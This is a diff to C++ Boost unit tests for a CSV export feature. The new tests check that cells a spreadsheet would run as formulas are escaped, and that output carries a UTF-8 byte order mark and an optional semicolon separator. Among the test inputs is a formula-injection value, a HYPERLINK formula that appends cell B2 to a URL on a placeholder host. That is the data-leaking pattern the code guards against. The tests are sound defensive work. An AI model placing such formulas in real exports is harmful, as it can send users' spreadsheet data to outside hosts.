@@ -1,6 +1,8 @@
 #define BOOST_TEST_MODULE export
 #include <boost/test/unit_test.hpp>
 
+#include <functional>
+
 #include "bpm/bpm_file.h"
 #include "bpm/export_text.h"
 #include "bpm/history.h"
@@ -69,10 +71,50 @@ BOOST_AUTO_TEST_CASE(csv_fields_are_quoted_only_when_needed) {
     BOOST_TEST(csv_field("Maison Éclat") == "Maison Éclat");
 }
 
+// Case 04: cells a spreadsheet would run as formulas ("=HYPERLINK(…)", "+23% faster") get a
+// leading apostrophe, which Excel, LibreOffice and Google Sheets show as text.
+BOOST_AUTO_TEST_CASE(csv_cells_that_would_run_as_formulas_are_guarded) {
+    for (const char* formula : {"=1+2", "+23% faster close", "-20% DSO", "@controller", "\tTab first", "\rCR first",
+                                "\uFF1DSUM(A1)", "\uFF0B1", "\uFF0D1", "\uFF20x"})
+        BOOST_TEST(csv_field(formula).find("'" + std::string(formula)) <= 1u, formula);
+    BOOST_TEST(csv_field("=HYPERLINK(\"x\",\"y\")") == "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
+    for (const char* safe : {"plain", "a = b", "2-4 weeks", " =not first", "", "e-mail"})
+        BOOST_TEST(csv_field(safe) == safe);
+
+    const result<document> doc = load_json(test::data("csv-formula-cells.json"));
+    BOOST_TEST_REQUIRE(bool(doc));
+    const auto rows = parse_csv(to_csv(*doc.value).value->substr(3));
+    BOOST_TEST_REQUIRE(rows.size() == 2u);
+    BOOST_TEST(rows[1][7] == "'-20% DSO target set by the board");
+    BOOST_TEST(rows[1][9] == "'@controller and the audit partner");
+    BOOST_TEST(rows[1][10] == "'=HYPERLINK(\"http://example.invalid/roi?c=\"&B2,\"Open ROI model\")");
+    BOOST_TEST(rows[1][12] == "'+23% faster close in the pilot");
+    BOOST_TEST(rows[1][6] == "Validation");
+}
+
+// Case 05: without a byte order mark Excel read UTF-8 as its code page ("MÃ¼ller"); with ';' a
+// European Excel splits the columns.
+BOOST_AUTO_TEST_CASE(csv_starts_with_a_byte_order_mark_and_takes_a_separator) {
+    const result<document> doc = load_json(test::data("csv-excel-utf8.json"));
+    BOOST_TEST_REQUIRE(bool(doc));
+    const std::string comma = *to_csv(*doc.value).value;
+    BOOST_TEST(comma.rfind("\xEF\xBB\xBFpersona_id,persona_name,", 0) == 0u);
+    BOOST_TEST(comma.find("Einkaufsleiterin — Müller & Söhne GmbH") != std::string::npos);
+    BOOST_TEST(comma.find("\"Geschäftsführer, Lagerleiter\"") != std::string::npos);
+
+    const std::string semicolon = *to_csv(*doc.value, {';'}).value;
+    BOOST_TEST(semicolon.rfind("\xEF\xBB\xBFpersona_id;persona_name;", 0) == 0u);
+    BOOST_TEST(semicolon.find(";Geschäftsführer, Lagerleiter;") != std::string::npos);
+    BOOST_TEST(semicolon.find(";小売店の店長;") != std::string::npos);
+    BOOST_TEST(csv_field("a;b", ';') == "\"a;b\"");
+    BOOST_TEST(csv_field("a;b") == "a;b");
+}
+
 BOOST_AUTO_TEST_CASE(csv_has_a_row_per_persona_and_stage_that_parses_back) {
     const document d = test::rich_document();
     const std::string csv = *to_csv(d).value;
-    const auto rows = parse_csv(csv);
+    BOOST_TEST_REQUIRE(csv.rfind("\xEF\xBB\xBF", 0) == 0u);
+    const auto rows = parse_csv(csv.substr(3));
     BOOST_TEST_REQUIRE(rows.size() == 4u);  // header, two stages, one stage-less persona
     const std::vector<std::string> header = {"persona_id", "persona_name", "persona_pain_points", "status",
                                              "stage_number", "stage_id", "stage_name", "buyer_actions", "duration",
@@ -212,7 +254,9 @@ BOOST_AUTO_TEST_CASE(markdown_summaries_tell_of_the_map_as_it_is_now) {
 
 BOOST_AUTO_TEST_CASE(markdown_and_csv_tell_their_progress_and_can_be_cancelled) {
     const document d = test::rich_document();
-    for (auto write : {&to_markdown, &to_csv}) {
+    const auto csv = [](const document& doc, const progress_fn& progress) { return to_csv(doc, {}, progress); };
+    for (std::function<result<std::string>(const document&, const progress_fn&)> write :
+         {std::function<result<std::string>(const document&, const progress_fn&)>(&to_markdown), {csv}}) {
         std::vector<std::size_t> told;
         const auto whole = write(d, [&](std::size_t done, std::size_t total) {
             BOOST_TEST(total == d.personas.size());
